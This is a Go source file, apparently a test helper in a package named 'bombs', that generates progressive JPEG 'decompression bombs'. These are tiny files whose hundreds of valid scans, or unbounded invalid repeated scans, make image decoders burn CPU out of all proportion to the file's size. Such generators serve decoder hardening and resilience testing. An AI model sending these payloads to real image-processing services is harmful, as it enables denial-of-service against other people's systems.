package bombs

import (
	"bytes"
	"encoding/binary"
)

// ProgressiveJPEG builds a greyscale w x h progressive JPEG of all-zero
// coefficients split into `scans` scans, each a few bytes long. A decoder
// walks every block of the image once per scan, so the cost grows with
// scans × blocks while the file stays tiny.
//
// The scan sequence is a valid successive-approximation progression (the DC
// scan, then per AC coefficient k a first scan at Al=13 and refinements down
// to Al=0), so decoders raise no "bogus progression" warning; that caps a
// valid file at 1 + 63×14 = 883 scans. With repeat set, scans past the valid
// sequence repeat the last AC scan, which is invalid (libjpeg warns and goes
// on) but has no upper bound.
func ProgressiveJPEG(w, h, scans int, repeat bool) []byte {
	var b bytes.Buffer
	seg := func(marker byte, payload ...byte) {
		b.Write([]byte{0xFF, marker})
		_ = binary.Write(&b, binary.BigEndian, uint16(len(payload)+2))
		b.Write(payload)
	}
	b.Write([]byte{0xFF, 0xD8})
	dqt := make([]byte, 65) // table 0, 8-bit, all ones
	for i := 1; i < 65; i++ {
		dqt[i] = 1
	}
	seg(0xDB, dqt...)
	seg(0xC2, 8, byte(h>>8), byte(h), byte(w>>8), byte(w), 1, 1, 0x11, 0) // SOF2, 1 component
	// One-symbol Huffman tables, each symbol coded as the single bit 0:
	// DC difference category 0, and AC 0xE0 = EOBRUN of 2^14 (+14 extra bits).
	counts := func(sym byte) []byte { return append([]byte{1}, append(make([]byte, 15), sym)...) }
	seg(0xC4, append([]byte{0x00}, counts(0x00)...)...)
	seg(0xC4, append([]byte{0x10}, counts(0xE0)...)...)

	blocks := ((w + 7) / 8) * ((h + 7) / 8)
	sos := func(ss, se, ah, al byte) { seg(0xDA, 1, 1, 0x00, ss, se, ah<<4|al) }
	// DC first scan: one 0 bit per block.
	sos(0, 0, 0, 0)
	writeEntropy(&b, blocks, 1)
	// AC scans: each block run is EOBRUN symbols of 2^14 blocks (the last one
	// shorter via its extra bits), so a scan is 2 bytes per 16384 blocks.
	var plan [][4]byte
	for k := byte(1); k <= 63; k++ {
		plan = append(plan, [4]byte{k, k, 0, 13})
		for a := byte(13); a >= 1; a-- {
			plan = append(plan, [4]byte{k, k, a, a - 1})
		}
	}
	for i := 1; i < scans; i++ {
		p := plan[min(i-1, len(plan)-1)]
		if i-1 >= len(plan) && !repeat {
			break
		}
		sos(p[0], p[1], p[2], p[3])
		writeEOBRuns(&b, blocks)
	}
	b.Write([]byte{0xFF, 0xD9})
	return b.Bytes()
}

// bitWriter packs MSB-first bits with JPEG byte stuffing (0xFF → 0xFF 0x00).
type bitWriter struct {
	out  *bytes.Buffer
	acc  uint32
	nacc int
}

func (bw *bitWriter) put(v uint32, n int) {
	for i := n - 1; i >= 0; i-- {
		bw.acc = bw.acc<<1 | (v>>i)&1
		if bw.nacc++; bw.nacc == 8 {
			bw.out.WriteByte(byte(bw.acc))
			if byte(bw.acc) == 0xFF {
				bw.out.WriteByte(0)
			}
			bw.acc, bw.nacc = 0, 0
		}
	}
}

// flush pads the last byte with 1 bits, as the standard asks.
func (bw *bitWriter) flush() {
	for bw.nacc != 0 {
		bw.put(1, 1)
	}
}

// writeEntropy writes n zero codes of `bits` bits each.
func writeEntropy(b *bytes.Buffer, n, bits int) {
	bw := &bitWriter{out: b}
	for i := 0; i < n; i++ {
		bw.put(0, bits)
	}
	bw.flush()
}

// writeEOBRuns covers n blocks with EOB14 runs: code 0, then 14 bits that add
// to 2^14.
func writeEOBRuns(b *bytes.Buffer, n int) {
	bw := &bitWriter{out: b}
	for n > 0 {
		run := min(n, 1<<15-1)
		if run < 1<<14 { // shorter runs would need other symbols: overshoot is harmless
			run = 1 << 14
		}
		bw.put(0, 1)
		bw.put(uint32(run-1<<14), 14)
		n -= run
	}
	bw.flush()
}
